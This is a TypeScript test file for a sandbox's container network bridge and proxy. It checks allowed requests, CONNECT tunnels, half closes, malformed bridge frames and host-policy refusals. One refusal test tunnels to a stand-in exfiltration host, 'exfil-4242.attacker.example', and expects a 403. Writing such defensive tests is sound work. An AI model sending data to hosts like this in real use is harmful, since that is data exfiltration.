// A container teammate's network bridge without a container (docs/containers.md, "Network"):
// the real native/netbridge program runs here as a child whose stdin and stdout stand for the
// engine's exec stream, the host's BridgeLink hands its connections to the product's proxy,
// and a local HTTP server stands for the outside. Plain requests, CONNECT tunnels (a megabyte
// each way, many at once), half closes, the host policy's refusals, and a hostile stream.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { access } from 'node:fs/promises';
import { createServer as createHttp, type Server } from 'node:http';
import { connect, createServer, type AddressInfo, type Socket } from 'node:net';
import { arch } from 'node:os';
import { PassThrough, type Duplex } from 'node:stream';
import { test, type TestContext } from 'node:test';
import { BridgeLink, encodeFrame, MAX_FRAME, MAX_STREAMS } from '../../src/core/container/bridge-link';
import { bridgeProgram } from '../../src/core/container/net-bridge';
import { NetworkProxy } from '../../src/core/sandbox/proxy';

const program = bridgeProgram(arch() === 'arm64' ? 'arm64' : 'amd64', `${__dirname}/../../src/core/container/netbridge`)!;

async function freePort(): Promise<number> {
  const s = createServer();
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  const { port } = s.address() as AddressInfo;
  await new Promise((r) => s.close(r));
  return port;
}

/** The outside: answers GET /hello, and echoes what a raw TCP client sends (the `echo` port). */
async function outside(t: TestContext): Promise<{ http: number; echo: number; seen: string[] }> {
  const seen: string[] = [];
  const http: Server = createHttp((req, res) => { seen.push(`${req.method} ${req.url}`); res.end(`hello from ${req.url}`); });
  const echo = createServer((s) => s.pipe(s));
  await Promise.all([http, echo].map((s) => new Promise<void>((r) => s.listen(0, '127.0.0.1', r))));
  t.after(() => { http.close(); echo.close(); });
  return { http: (http.address() as AddressInfo).port, echo: (echo.address() as AddressInfo).port, seen };
}

interface Bridged {
  port: number;
  asked: string[];
  link: BridgeLink;
}

/** The bridge program listening on a free port here, its connections judged by `allow`. */
async function bridge(t: TestContext, allow: (host: string, port: number) => boolean): Promise<Bridged> {
  const port = await freePort();
  const asked: string[] = [];
  const proxy = new NetworkProxy(async (h, p) => { asked.push(`${h}:${p}`); return allow(h, p); });
  const child = spawn(program, [String(port)], { stdio: ['pipe', 'pipe', 'inherit'] });
  const link = new BridgeLink(child.stdout, child.stdin, (c) => proxy.accept(c));
  t.after(async () => { link.close(); child.kill('SIGKILL'); await proxy.close(); });
  assert.equal(await link.ready(5000), null, 'the bridge listens');
  return { port, asked, link };
}

function rawRequest(port: number, text: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const s = connect(port, '127.0.0.1', () => s.write(text));
    let got = '';
    s.on('data', (b) => (got += b.toString()));
    s.on('end', () => resolve(got));
    s.on('error', reject);
    s.setTimeout(10_000, () => { s.destroy(); reject(new Error(`no answer; got ${got}`)); });
  });
}

/** A CONNECT tunnel through the bridge to `target`; resolves once the proxy has said 200. */
function tunnel(port: number, target: string): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const s = connect(port, '127.0.0.1', () => s.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`));
    let head = '';
    const onData = (b: Buffer) => {
      head += b.toString('latin1');
      if (!head.includes('\r\n\r\n')) return;
      s.off('data', onData);
      if (/^HTTP\/1\.1 200/.test(head)) resolve(s);
      else reject(new Error(head));
    };
    s.on('data', onData);
    s.on('error', reject);
  });
}

function roundTrip(s: Socket, data: Buffer): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const parts: Buffer[] = [];
    let n = 0;
    s.on('data', (b: Buffer) => {
      parts.push(b);
      n += b.length;
      if (n >= data.length) { s.end(); resolve(Buffer.concat(parts)); }
    });
    s.on('error', reject);
    s.write(data);
  });
}

test('a plain http request made to the bridge reaches an allowed host through the proxy', async (t) => {
  if (!(await access(program).then(() => true, () => false))) return t.skip(`${program} was not built (no C compiler)`);
  const o = await outside(t);
  const b = await bridge(t, (h, p) => h === 'localhost' && p === o.http);
  const got = await rawRequest(b.port, `GET http://localhost:${o.http}/hello HTTP/1.1\r\nHost: localhost:${o.http}\r\nConnection: close\r\n\r\n`);
  assert.match(got, /^HTTP\/1\.1 200/);
  assert.match(got, /hello from \/hello/);
  assert.deepEqual(o.seen, ['GET /hello']);
  assert.deepEqual(b.asked, [`localhost:${o.http}`], 'the host policy judged the host, by name');
});

test('a host the policy refuses gets 403 and nothing reaches it; a name is never resolved before it is allowed', async (t) => {
  if (!(await access(program).then(() => true, () => false))) return t.skip(`${program} was not built (no C compiler)`);
  const o = await outside(t);
  const b = await bridge(t, () => false);
  const plain = await rawRequest(b.port, `GET http://localhost:${o.http}/secret HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
  assert.match(plain, /^HTTP\/1\.1 403/);
  assert.match(plain, /Blocked: the sandbox does not allow localhost/);
  await assert.rejects(tunnel(b.port, 'exfil-4242.attacker.example:443'), /403 Forbidden/);
  assert.deepEqual(o.seen, [], 'nothing reached the outside');
  assert.deepEqual(b.asked, [`localhost:${o.http}`, 'exfil-4242.attacker.example:443']);
});

test('CONNECT tunnels carry a megabyte each way intact, twenty at once, and a half close passes through', async (t) => {
  if (!(await access(program).then(() => true, () => false))) return t.skip(`${program} was not built (no C compiler)`);
  const o = await outside(t);
  const b = await bridge(t, () => true);
  const big = randomBytes(1 << 20);
  const back = await roundTrip(await tunnel(b.port, `127.0.0.1:${o.echo}`), big);
  assert.equal(back.length, big.length);
  assert.ok(back.equals(big), 'the same bytes came back');
  const many = await Promise.all(Array.from({ length: 20 }, async (_, i) => {
    const data = randomBytes(100_000 + i);
    return (await roundTrip(await tunnel(b.port, `127.0.0.1:${o.echo}`), data)).equals(data);
  }));
  assert.deepEqual(many, Array(20).fill(true));
  // Half close: the client ends its side; the server's answer still comes back after it.
  const late = createServer((s) => { let n = 0; s.on('data', (d) => (n += d.length)); s.on('end', () => s.end(`got ${n}`)); });
  await new Promise<void>((r) => late.listen(0, '127.0.0.1', r));
  t.after(() => late.close());
  const s = await tunnel(b.port, `127.0.0.1:${(late.address() as AddressInfo).port}`);
  const answer = new Promise<string>((resolve) => { let got = ''; s.on('data', (d) => (got += d)); s.on('end', () => resolve(got)); });
  s.end('12345');
  assert.equal(await answer, 'got 5');
  await new Promise((r) => setTimeout(r, 200));
  assert.equal(b.link.open, 0, 'every connection was forgotten once both sides closed');
});

test('a hostile bridge stream: oversized and unknown frames, an id opened twice and too many opens end the bridge, stray ids are ignored', async () => {
  const accepted: Duplex[] = [];
  const from = new PassThrough();
  const to = new PassThrough();
  const sent: Buffer[] = [];
  to.on('data', (b: Buffer) => sent.push(b));
  const link = new BridgeLink(from, to, (c) => accepted.push(c));
  from.write(encodeFrame('R', 0));
  assert.equal(await link.ready(1000), null);
  from.write(encodeFrame('D', 999, Buffer.from('stray')));
  for (let i = 1; i <= MAX_STREAMS; i++) from.write(encodeFrame('O', i));
  await new Promise((r) => setImmediate(r));
  assert.equal(accepted.length, MAX_STREAMS);
  assert.equal(link.alive, true, 'stray ids are ignored');
  // One more: the real bridge never opens more than its table holds, so no answer is queued for it.
  from.write(encodeFrame('O', MAX_STREAMS + 1));
  await new Promise((r) => setImmediate(r));
  assert.equal(accepted.length, MAX_STREAMS, `at most ${MAX_STREAMS} connections at once`);
  assert.match(link.ended!, new RegExp(`more than ${MAX_STREAMS} connections: stopped`));
  assert.ok(accepted.every((c) => c.destroyed), 'its connections ended with it');
  assert.equal(Buffer.concat(sent).length, 0, 'nothing was answered');
  // An id opened twice.
  const twice = new PassThrough();
  const again = new BridgeLink(twice, new PassThrough(), () => undefined);
  twice.write(Buffer.concat([encodeFrame('O', 7), encodeFrame('O', 7)]));
  await new Promise((r) => setImmediate(r));
  assert.match(again.ended!, /opened connection 7 twice/);
  // A length over the limit: the bridge ends at its header, before any of it is buffered.
  const src0 = new PassThrough();
  const big = new BridgeLink(src0, new PassThrough(), () => undefined);
  const huge = Buffer.alloc(9);
  huge.write('D', 0, 'latin1');
  huge.writeUInt32BE(1, 1);
  huge.writeUInt32BE(0xffffffff, 5);
  src0.write(huge);
  await new Promise((r) => setImmediate(r));
  assert.equal(big.alive, false);
  assert.match(big.ended!, new RegExp(`a frame of 4294967295 bytes \\(more than ${MAX_FRAME}\\)`));
  const src = new PassThrough();
  const other = new BridgeLink(src, new PassThrough(), () => undefined);
  src.write(encodeFrame('Z', 1));
  await new Promise((r) => setImmediate(r));
  assert.match(other.ended!, /unknown frame/);
});
